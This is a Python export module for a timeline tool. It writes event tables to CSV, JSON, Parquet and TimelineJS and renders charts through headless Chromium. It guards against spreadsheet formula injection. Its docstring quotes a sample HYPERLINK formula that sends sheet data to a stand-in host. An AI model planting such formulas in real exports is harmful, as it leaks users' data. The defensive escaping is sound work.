"""Exports: the events frame as CSV, JSON, Parquet and TimelineJS JSON; figures as images.

Every file is written atomically (temporary file, then rename).

CSV is opened in spreadsheets, which run a cell beginning with "=", "+", "-" or "@" (or a tab
or carriage return before one) as a formula: an article sentence such as
`=HYPERLINK("http://x.example/?"&A1, "see")` would leak the sheet. As OWASP recommends, such a
cell is written with a leading "'" (shown as text, not run); so is a cell that already begins
with "'" and then one of those, so that `read_events` can take exactly one "'" off again and
read our own CSV back as it was. JSON and Parquet keep the text as it is.
"""

from __future__ import annotations

import html
import io
import json
import os
import re
import shutil
import threading
import warnings
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pandas as pd

from timeline._io import atomic_write_bytes
from timeline.roles import summary
from timeline.schema import DATE_COLUMNS, LIST_COLUMNS, SchemaError, conform, new_frame

if TYPE_CHECKING:
    import plotly.graph_objects as go

__all__ = [
    "EVENT_FORMATS",
    "FIGURE_FORMATS",
    "ChromiumMissing",
    "ExportError",
    "ImageExporter",
    "events_bytes",
    "figure_bytes",
    "find_chromium",
    "neutralise_cell",
    "read_events",
    "restore_cell",
    "timelinejs_json",
    "write_events",
    "write_figure",
]

EVENT_FORMATS: tuple[str, ...] = ("csv", "json", "parquet")
FIGURE_FORMATS: tuple[str, ...] = ("png", "svg", "pdf")
MIME_TYPES: dict[str, str] = {
    "png": "image/png",
    "svg": "image/svg+xml",
    "pdf": "application/pdf",
    "html": "text/html",
    "csv": "text/csv",
    "json": "application/json",
    "parquet": "application/vnd.apache.parquet",
}
CHROMIUM_HELP = (
    "Image export needs Chromium. Install it with `make chromium` "
    "(Debian/Ubuntu: `sudo apt-get install chromium`), or set BROWSER_PATH to a "
    "Chrome or Chromium executable."
)
_CHROMIUM_CANDIDATES = (
    "chromium",
    "chromium-browser",
    "google-chrome",
    "google-chrome-stable",
    "chrome",
)


# A cell a spreadsheet would run as a formula (after any quotes we added before).
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralise_cell(text: str) -> str:
    """A CSV cell made safe to open in a spreadsheet (a leading "'" before a formula)."""
    return "'" + text if _FORMULA.match(text) else text


def restore_cell(text: str) -> str:
    """The cell as it was before `neutralise_cell`."""
    return text[1:] if text.startswith("'") and _FORMULA.match(text, 1) else text


def _format_of(path: str | Path) -> str:
    suffix = Path(path).suffix.lower().lstrip(".")
    if suffix not in EVENT_FORMATS:
        raise ValueError(
            f"{path}: unknown output format {suffix or '(none)'!r}; use .csv, .json or .parquet"
        )
    return suffix


def events_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
    """The events frame serialised as `fmt` (csv, json or parquet)."""
    frame = conform(frame)
    if fmt == "parquet":
        buffer = io.BytesIO()
        frame.to_parquet(buffer, index=False)
        return buffer.getvalue()
    if fmt == "csv":
        flat = frame.copy()
        for col in LIST_COLUMNS:
            flat[col] = flat[col].map("; ".join)
        for col in DATE_COLUMNS:
            flat[col] = flat[col].dt.strftime("%Y-%m-%d")
        for col in flat.columns:
            if col not in DATE_COLUMNS and not pd.api.types.is_numeric_dtype(flat[col]):
                flat[col] = flat[col].map(neutralise_cell, na_action="ignore")
        # Lines end in CRLF (RFC 4180): a cell holding a bare CR or LF is then quoted, so it
        # cannot start a new row (whose first cell a spreadsheet would run).
        return flat.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
    if fmt == "json":
        records = []
        for row in frame.to_dict(orient="records"):
            for col in DATE_COLUMNS:
                row[col] = None if pd.isna(row[col]) else row[col].strftime("%Y-%m-%d")
            records.append({k: (None if v is pd.NA else v) for k, v in row.items()})
        return json.dumps(records, ensure_ascii=False, indent=1).encode("utf-8")
    raise ValueError(f"unknown events format {fmt!r}; use one of {', '.join(EVENT_FORMATS)}")


def write_events(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write the frame to `path` in the format its extension names, atomically."""
    return atomic_write_bytes(path, events_bytes(frame, _format_of(path)))


def read_events(path: str | Path) -> pd.DataFrame:
    """Read an events file written by `write_events` (or by hand, with the schema's columns)."""
    fmt = _format_of(path)
    try:
        if fmt == "parquet":
            frame = pd.read_parquet(path)
        elif fmt == "csv":
            frame = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
            frame = frame.apply(lambda col: col.map(restore_cell, na_action="ignore"))
        else:
            frame = pd.read_json(path, orient="records", dtype=False)
        if frame.empty and not len(frame.columns):
            return new_frame()  # "[]": the events file of a run that found none
    except (OSError, ValueError) as exc:
        raise SchemaError(f"{path}: cannot read events: {exc}") from exc
    return conform(frame)


# --- TimelineJS -------------------------------------------------------------------------

_TJS_PARTS: dict[str, tuple[str, ...]] = {
    "day": ("year", "month", "day"),
    "week": ("year", "month", "day"),
    "month": ("year", "month"),
    "quarter": ("year", "month"),
    "season": ("year", "month"),
    "half": ("year", "month"),
    "year": ("year",),
    "decade": ("year",),
    "century": ("year",),
}


def _tjs_date(value: pd.Timestamp, precision: str) -> dict[str, str]:
    parts = _TJS_PARTS.get(precision, ("year", "month", "day"))
    return {part: str(getattr(value, part)) for part in parts}


def timelinejs_json(frame: pd.DataFrame, title: str = "Timeline") -> bytes:
    """The dated events in TimelineJS 3's JSON format (undated events are left out).

    Text is HTML-escaped, since TimelineJS renders it as HTML.
    """
    frame = conform(frame)
    events = []
    for row in frame[frame["start"].notna()].itertuples(index=False):
        precision = row.precision if isinstance(row.precision, str) else "day"
        event: dict[str, Any] = {
            "unique_id": str(row.event_id),
            "start_date": _tjs_date(row.start, precision),
            "text": {
                "headline": html.escape(summary(row.actors, row.targets, str(row.event_type))),
                "text": f"<p>{html.escape(str(row.sentence))}</p>"
                + (f"<p><i>{html.escape(str(row.source))}</i></p>" if row.source else ""),
            },
            "group": html.escape(row.actors[0]) if row.actors else "",
        }
        if not pd.isna(row.end) and (row.end != row.start or precision != "day"):
            event["end_date"] = _tjs_date(row.end, precision)
        if isinstance(row.time_expression, str) and row.time_expression:
            event["display_date"] = html.escape(row.time_expression)
        events.append(event)
    document = {"title": {"text": {"headline": html.escape(title), "text": ""}}, "events": events}
    return json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")


# --- Figures as images (kaleido drives a headless Chromium) -----------------------------


class ExportError(RuntimeError):
    """A figure could not be turned into an image; the message says why."""


class ChromiumMissing(ExportError):
    """No Chrome or Chromium executable was found; the message says how to get one."""


def find_chromium() -> str | None:
    """Path of a Chrome/Chromium executable: $BROWSER_PATH, then the usual names on PATH."""
    explicit = os.environ.get("BROWSER_PATH")
    if explicit:
        return explicit if Path(explicit).is_file() else None
    for name in _CHROMIUM_CANDIDATES:
        found = shutil.which(name)
        if found:
            return found
    return None


def _check_format(fmt: str) -> str:
    fmt = fmt.lower().lstrip(".")
    if fmt not in FIGURE_FORMATS:
        raise ValueError(f"unknown image format {fmt!r}; use one of {', '.join(FIGURE_FORMATS)}")
    return fmt


def _printable(fig: go.Figure) -> dict[str, Any]:
    """The figure as a dict for a still image: no range slider or buttons (screen only),
    and SVG traces instead of WebGL ones (sharp in SVG/PDF, and far faster to render in a
    headless browser without a GPU)."""
    spec = fig.to_dict()
    for trace in spec.get("data", []):
        if trace.get("type") == "scattergl":
            trace["type"] = "scatter"
    xaxis = spec.get("layout", {}).get("xaxis")
    if isinstance(xaxis, dict):
        for control in ("rangeslider", "rangeselector"):
            if control in xaxis:
                xaxis[control] = {"visible": False}
    return spec


def _opts(fig: go.Figure, fmt: str, width: int | None, scale: float | None) -> dict[str, Any]:
    height = fig.layout.height or 500
    return {
        "format": fmt,
        "width": width or 1400,
        "height": height,
        "scale": scale if scale is not None else (2 if fmt == "png" else 1),
    }


class ImageExporter:
    """One headless Chromium kept open (kaleido's sync server) for fast repeated exports.

    Kaleido's server is a process-wide singleton; make one exporter per process (the
    dashboard keeps it in `st.cache_resource`). Calls are serialised by a lock, since
    the server answers one request at a time.
    """

    def __init__(self, browser: str | None = None, timeout: float = 60) -> None:
        import kaleido

        self.browser = browser or find_chromium()
        if not self.browser:
            raise ChromiumMissing(CHROMIUM_HELP)
        self.timeout = timeout
        self._lock = threading.Lock()
        # mathjax=False: no LaTeX in our figures, and no network to fetch MathJax from.
        kaleido.start_sync_server(
            path=self.browser, mathjax=False, timeout=timeout, silence_warnings=True
        )

    def render(
        self, fig: go.Figure, fmt: str, *, width: int | None = None, scale: float | None = None
    ) -> bytes:
        """The figure as png, svg or pdf bytes."""
        import kaleido

        fmt = _check_format(fmt)
        result: list[Any] = []

        def call() -> None:
            try:
                result.append(
                    kaleido.calc_fig_sync(_printable(fig), opts=_opts(fig, fmt, width, scale))
                )
            except Exception as exc:  # reported below, in the caller's thread
                result.append(exc)

        if not self._lock.acquire(timeout=self.timeout):
            raise ExportError("the export browser is busy; try again in a moment")
        try:
            # The server never answers if its browser died: wait in a thread, with a limit.
            worker = threading.Thread(target=call, daemon=True)
            worker.start()
            worker.join(self.timeout)
        finally:
            self._lock.release()
        if not result:
            raise ExportError(f"the export browser did not answer within {self.timeout:.0f} s")
        if isinstance(result[0], Exception):
            raise ExportError(f"image export failed: {result[0]}") from result[0]
        return bytes(result[0])

    def close(self) -> None:
        import kaleido

        kaleido.stop_sync_server(silence_warnings=True)


def figure_bytes(
    fig: go.Figure,
    fmt: str,
    *,
    width: int | None = None,
    scale: float | None = None,
    exporter: ImageExporter | None = None,
) -> bytes:
    """The figure as png, svg or pdf bytes (PNG at scale 2 unless told otherwise).

    With an `exporter` its warm browser is used. Without, the running ImageExporter of
    this process if any, else a browser started for this one image (a few seconds more).
    Raises ChromiumMissing or ExportError.
    """
    fmt = _check_format(fmt)
    if exporter is not None:
        return exporter.render(fig, fmt, width=width, scale=scale)
    import kaleido

    browser = find_chromium()
    if not browser:
        raise ChromiumMissing(CHROMIUM_HELP)
    try:
        with warnings.catch_warnings():
            # When an ImageExporter is running kaleido uses it and says kopts are ignored.
            warnings.filterwarnings("ignore", "The kopts argument", UserWarning)
            data = kaleido.calc_fig_sync(
                _printable(fig),
                opts=_opts(fig, fmt, width, scale),
                kopts={"path": browser, "mathjax": False},
            )
    except Exception as exc:  # kaleido and the browser raise many kinds
        raise ExportError(f"image export failed: {exc}") from exc
    return bytes(data)


def write_figure(fig: go.Figure, path: str | Path) -> Path:
    """Write the figure to `path` as .png, .svg, .pdf or .html (standalone), atomically."""
    fmt = Path(path).suffix.lower().lstrip(".")
    if fmt == "html":
        page = fig.to_html(include_plotlyjs=True, full_html=True, config={"displaylogo": False})
        return atomic_write_bytes(path, page.encode("utf-8"))
    if fmt not in FIGURE_FORMATS:
        raise ValueError(
            f"{path}: unknown chart format {fmt or '(none)'!r}; use .png, .svg, .pdf or .html"
        )
    return atomic_write_bytes(path, figure_bytes(fig, fmt))
